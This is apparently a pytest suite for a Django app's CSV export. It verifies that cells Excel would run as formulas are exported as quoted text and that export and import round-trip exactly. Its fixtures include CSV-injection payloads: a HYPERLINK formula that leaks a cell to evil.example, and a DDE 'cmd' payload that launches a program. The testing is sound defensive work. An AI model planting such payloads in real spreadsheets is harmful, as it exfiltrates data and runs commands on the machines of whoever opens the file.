"""CSV export as a spreadsheet opens it: cells Excel would run as formulas (CSV injection)
are written as text, and importing the export gives back every value unchanged."""

from __future__ import annotations

import base64
import csv
import io
from pathlib import Path

import pytest
from django.core.management import call_command

import subgraphs.people
from subgraphs.core.principal import ROLE_TENANT_ADMIN, Principal
from subgraphs.people import actions
from subgraphs.people.csv_io import do_import_csv, export_csv
from subgraphs.people.models import Organization, Person, RoleAssignment, Tenant
from tests.conftest import GraphQLClient

DEMO = Path(subgraphs.people.__file__).parent / "demo_data"
ENCODINGS = ["cp932", "utf-8-sig", "utf-8"]

# Values an attacker (or a careless edit) may put into a name or a title, each of which
# Excel would evaluate when the export is opened: the OWASP list and Japanese Excel's
# full-width forms.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"詳細")',
    "+SUM(1,2)",
    "@SUM(1)",
    "-2+3",
    "=1+2",
    "＝１＋２",
    "＋SUM(1)",
    "－２＋３",
    "＠SUM(1)",
    "+81-3-1234-5678",
]
# Values that look close but are no formula, or that already start with a quote: they
# must come back exactly as they were too.
NOT_FORMULAS = ["'001", "'abc", "It's", "a=b", "1+2", "-123"]
ALREADY_QUOTED = ["'=1+2", "''@x", "'-2+3"]


def _cells(data: bytes, encoding: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(encoding), newline="")))


def _people_values(tenant: Tenant) -> list[tuple[object, ...]]:
    return sorted(
        Person.objects.filter(tenant=tenant).values_list(
            "login_id", "name", "title", "title_code", "extension", "sort_order", "is_active"
        )
    )


def _org_values(tenant: Tenant) -> list[tuple[object, ...]]:
    return sorted(
        Organization.objects.filter(tenant=tenant).values_list(
            "code", "name", "parent_id", "sort_order", "is_active"
        )
    )


@pytest.fixture
def okawa(db: None) -> Tenant:
    tenant = Tenant.objects.create(code="402125", slug="okawa", name="大川市")
    for kind in ("organizations", "staff"):
        report = do_import_csv(tenant, kind, (DEMO / f"402125-{kind}.csv").read_bytes())
        assert report.applied, report.errors
    return tenant


@pytest.fixture
def hostile(okawa: Tenant) -> dict[str, str]:
    """Staff and departments whose names, titles, extensions and codes are formulas; a
    negative display order and extension. Returns login ID -> the formula in its name."""
    people = list(Person.objects.filter(tenant=okawa).order_by("login_id"))
    values = FORMULAS + NOT_FORMULAS + ALREADY_QUOTED
    names: dict[str, str] = {}
    for person, value in zip(people, values, strict=False):
        person.name = value
        person.title = value
        person.extension = value[:30]
        person.save()
        names[person.login_id] = value
    # Negative display orders are numbers, not formulas.
    Person.objects.filter(tenant=okawa, login_id=people[-1].login_id).update(sort_order=-5)
    Organization.objects.filter(tenant=okawa, code="0101").update(name="-2+3", sort_order=-1)
    Organization.objects.filter(tenant=okawa, code="0102").update(name="@SUM(A1)")
    return names


@pytest.mark.django_db
@pytest.mark.parametrize("encoding", ENCODINGS)
def test_formula_cells_are_written_as_text(
    okawa: Tenant, hostile: dict[str, str], encoding: str
) -> None:
    rows = _cells(export_csv(okawa, "staff", encoding=encoding), encoding)
    by_login = {row[0]: row for row in rows[1:]}

    for login_id, value in hostile.items():
        name, title, extension = by_login[login_id][1], by_login[login_id][6], by_login[login_id][8]
        if value in FORMULAS or value in ALREADY_QUOTED:
            # One quote in front: Excel shows the text and runs nothing.
            assert (name, title, extension) == ("'" + value, "'" + value, "'" + value[:30])
        else:
            assert (name, title, extension) == (value, value, value[:30])
    # No cell of the file starts as a formula (bar negative whole numbers).
    for row in rows:
        for cell in row:
            assert cell[:1] not in set("=+@＝＋－＠\t\r"), (row, cell)
            assert not cell.startswith("-") or cell.lstrip("-").isdigit(), (row, cell)
    # A negative display order stays a number.
    assert any(row[9] == "-5" for row in rows[1:])
    orgs = _cells(export_csv(okawa, "organizations", encoding=encoding), encoding)
    assert ["0101", "'-2+3", "", "01", "-1"] in orgs
    assert any(row[:2] == ["0102", "'@SUM(A1)"] for row in orgs)


@pytest.mark.django_db
def test_leading_tab_and_carriage_return_are_neutralised(okawa: Tenant) -> None:
    # Not possible through the import (control characters are refused) nor the API (values
    # are trimmed), but the export must not trust what the database holds.
    Person.objects.filter(tenant=okawa, login_id="0669950").update(
        name="\t=1+2", title="\r=cmd|' /C calc'!A0"
    )

    rows = _cells(export_csv(okawa, "staff", encoding="utf-8"), "utf-8")
    row = next(r for r in rows if r[0] == "0669950")

    assert (row[1], row[6]) == ("'\t=1+2", "'\r=cmd|' /C calc'!A0")


@pytest.mark.django_db
@pytest.mark.parametrize("encoding", ENCODINGS)
def test_export_import_export_is_byte_identical(
    okawa: Tenant, hostile: dict[str, str], encoding: str
) -> None:
    people_before, orgs_before = _people_values(okawa), _org_values(okawa)
    first = {
        kind: export_csv(okawa, kind, encoding=encoding) for kind in ("organizations", "staff")
    }

    for kind, data in first.items():
        report = do_import_csv(okawa, kind, data)
        assert report.errors == []
        assert (report.added, report.updated, report.deactivated) == ([], [], [])

    # Every value came back without the quote the export added (a name "-2+3" is "-2+3").
    assert _people_values(okawa) == people_before
    assert _org_values(okawa) == orgs_before
    assert Organization.objects.get(tenant=okawa, code="0101").name == "-2+3"
    for kind, data in first.items():
        assert export_csv(okawa, kind, encoding=encoding) == data


@pytest.mark.django_db
def test_a_hand_written_file_keeps_quotes_that_mark_no_formula(okawa: Tenant) -> None:
    # Only the quote in front of a would-be formula is the export's; "'001" as a personnel
    # system writes it to keep leading zeros in Excel is left as the file has it.
    data = "ログインID,氏名,役職,内線番号,表示順\r\n0669950,'=1+2,'001,'-123,-7\r\n".encode("cp932")

    report = do_import_csv(okawa, "staff", data)

    assert report.errors == []
    person = Person.objects.get(tenant=okawa, login_id="0669950")
    assert (person.name, person.title, person.extension, person.sort_order) == (
        "=1+2",
        "'001",
        "'-123",
        -7,
    )


@pytest.mark.django_db
def test_export_command_and_graphql_neutralise_formulas(
    okawa: Tenant, hostile: dict[str, str], tmp_path: Path
) -> None:
    path = tmp_path / "staff.csv"
    call_command("export", "staff", tenant="okawa", output=str(path), stderr=io.StringIO())
    admin = actions.do_create_person(
        Principal(tenant_id=okawa.id, person_id=None, via="test"),
        {"login_id": "itkanri", "name": "情報 管理"},
    ).obj
    RoleAssignment.objects.create(tenant=okawa, person=admin, role=ROLE_TENANT_ADMIN)
    token = actions.do_create_access_token(admin, "tests", None).extra["token"]

    exported = GraphQLClient(token).data(
        '{ exportCsv(kind: STAFF, encoding: "utf-8-sig") { contentBase64 } }'
    )["exportCsv"]

    from_command = {row[1] for row in _cells(path.read_bytes(), "cp932")}
    via_api = {row[1] for row in _cells(base64.b64decode(exported["contentBase64"]), "utf-8-sig")}
    for names in (from_command, via_api):
        assert "'" + FORMULAS[0] in names and "'+SUM(1,2)" in names
        assert FORMULAS[0] not in names and "+SUM(1,2)" not in names
